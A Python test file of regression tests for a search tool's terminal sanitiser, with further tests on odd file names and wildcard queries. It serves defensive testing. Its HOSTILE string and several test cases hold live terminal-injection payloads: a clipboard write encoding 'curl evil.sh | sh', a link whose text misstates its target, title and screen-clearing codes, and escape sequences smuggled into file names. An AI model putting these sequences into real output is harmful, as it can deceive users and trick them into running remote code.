"""Hostile input and faults (issue 15's red-team findings), each reproduced and shown to hold.

The longer versions (bigger inputs, more kill points) are in bench/; these are the regression
tests: every one failed before its fix.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from searchkit.cli import app
from searchkit.index.build import build_index
from searchkit.index.generations import IndexStore
from searchkit.terminal import safe_text

# What a scraped page can hide in a title or a paragraph: a clipboard write (OSC 52), a link whose
# text lies about its target (OSC 8), a window title, clear-screen, erase-line, a carriage return
# that overwrites the line, a C1 CSI, and a right-to-left override.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    "\x1b]8;;https://evil.example/\x1b\\bank login\x1b]8;;\x1b\\"
    "\x1b]0;pwned\x07\x1b[2J\x1b[K\rfake\x9b31m\u202eexe.txt"
)
OUR_STYLING = re.compile(r"\x1b\[(?:0|1|2|1;33)m")


@pytest.fixture()
def hostile_store(tmp_path: Path) -> IndexStore:
    pages = tmp_path / "pages"
    pages.mkdir()
    body = " ".join(["Escape sequences in a scraped article about terminal safety."] * 12)
    (pages / f"story{HOSTILE[:1]}\x1b[31m.html").write_text(
        f"<html><head><title>Terminal {HOSTILE} attack</title></head><body><article>"
        f"<h1>Terminal {HOSTILE} attack</h1><p>{body} {HOSTILE}</p><p>{body}</p>"
        "</article></body></html>",
        encoding="utf-8",
    )
    store = IndexStore(tmp_path / "ix")
    build_index([pages], store, workers=1)
    return store


@pytest.mark.parametrize("color", ["always", "never"])
def test_escape_sequences_from_pages_never_reach_the_terminal(runner, hostile_store, color):
    index = ["--index", str(hostile_store.path), "--color", color]
    found = runner.invoke(app, ["search", "terminal safety", *index])
    assert found.exit_code == 0, found.output
    assert "Terminal" in found.output and "attack" in found.output
    article_id = re.search(r"id ([0-9a-f]{8,})", found.output)
    assert article_id, found.output
    shown = runner.invoke(app, ["show", article_id.group(1), *index])
    assert shown.exit_code == 0, shown.output
    for output in (found.output, shown.output):
        leftover = OUR_STYLING.sub("", output)
        assert "\x1b" not in leftover and "\x9b" not in leftover and "\x07" not in leftover
        assert "\r" not in leftover and "\u202e" not in leftover
        assert "Y3VybCBldmlsLnNoIHwgc2g=" not in output  # the clipboard payload is gone too
    if color == "never":
        assert "\x1b" not in found.output
    else:
        assert "\x1b[1m" in found.output  # our own bold title is kept


def test_escape_sequences_in_file_names_are_stripped_from_the_index_summary(
    runner, hostile_store, tmp_path
):
    (tmp_path / "pages" / "empty\x1b]0;pwned\x07\x1b[2J.txt").write_bytes(b"")
    result = runner.invoke(app, ["index", "--index", str(hostile_store.path)])
    assert result.exit_code == 0, result.output
    assert "empty.txt: empty file" in result.output  # the skip is listed, its name made safe
    assert "\x1b" not in result.output and "pwned" not in result.output


def test_json_output_keeps_the_text_but_escapes_it(runner, hostile_store):
    result = runner.invoke(
        app, ["search", "terminal safety", "--json", "--index", str(hostile_store.path)]
    )
    assert result.exit_code == 0
    assert "\x1b" not in result.output  # json.dumps writes \u001b
    title = json.loads(result.output)["hits"][0]["title"]
    assert "attack" in title


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("plain title", "plain title"),
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("x\x1b]52;c;aGVsbG8=\x07y", "xy"),
        ("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", "click"),
        ("over\rwrite", "overwrite"),
        ("line\nnext\ttab", "line\nnext\ttab"),
        ("\u202eabc", "abc"),
        ("\x1bc reset", " reset"),
        ("\x9d0;title\x9c after", "0;title after"),  # C1 goes char by char (see terminal.py)
    ],
)
def test_safe_text_removes_whole_sequences_and_keeps_newlines(text, clean):
    assert safe_text(text) == clean


def test_a_file_name_that_is_not_utf8_is_indexed_under_a_readable_name(runner, tmp_path):
    """It used to abort every run (UnicodeEncodeError: surrogates not allowed) until renamed."""
    pages = tmp_path / "pages"
    (pages / "sub").mkdir(parents=True)
    text = b"A long story about a small cafe in Beijing and the people who run it. " * 8
    raw = os.fsencode(pages)
    with open(os.path.join(raw, b"caf\xe9.txt"), "wb") as f:
        f.write(text)
    with open(os.path.join(raw, b"sub", b"\xff\xfe-notes.txt"), "wb") as f:
        f.write(text.replace(b"cafe", b"teahouse"))
    index = ["--index", str(tmp_path / "ix")]
    first = runner.invoke(app, ["index", str(pages), *index])
    assert first.exit_code == 0, first.output
    assert "2 read" in first.output
    found = runner.invoke(app, ["search", "cafe Beijing", "--json", *index])
    assert found.exit_code == 0, found.output
    assert json.loads(found.output)["hits"][0]["source"] == "pages/caf\\xe9.txt"
    other = runner.invoke(app, ["search", "teahouse", "--json", *index])
    assert [h["source"] for h in json.loads(other.output)["hits"]] == [
        "pages/sub/\\xff\\xfe-notes.txt"
    ]
    again = runner.invoke(app, ["index", *index])  # the manifest recognises both files
    assert "0 read, 2 unchanged" in again.output


def test_a_lone_star_browses_every_story_without_expanding_a_word(searcher, monkeypatch):
    """``*`` is every article (read from no posting list), not a wildcard over every word: with
    the expansion cap at 3 words it still finds every story, and says nothing was cut."""
    from searchkit.query import parse

    monkeypatch.setattr(parse, "MAX_EXPANSION", 3)
    everything = searcher.search("*", limit=5)
    assert everything.total == searcher.stats()["distinct_articles"]
    assert everything.notices == [] and len(everything.hits) == 5


def test_a_prefix_standing_for_many_words_searches_the_most_common_and_says_so(
    searcher, monkeypatch
):
    from searchkit.query import parse

    unbounded = searcher.search("s*", limit=50)
    monkeypatch.setattr(parse, "MAX_EXPANSION", 3)
    bounded = searcher.search("s*", limit=50)
    assert len(bounded.notices) == 1
    assert re.fullmatch(
        r"'s\*' stands for [\d,]+ words; searched the 3 most common of them\.", bounded.notices[0]
    )
    assert 0 < bounded.total <= unbounded.total
    # the most common s-words (social, say, ...) still find the Sesame Credit story
    assert any("Sesame" in h.title for h in bounded.hits)
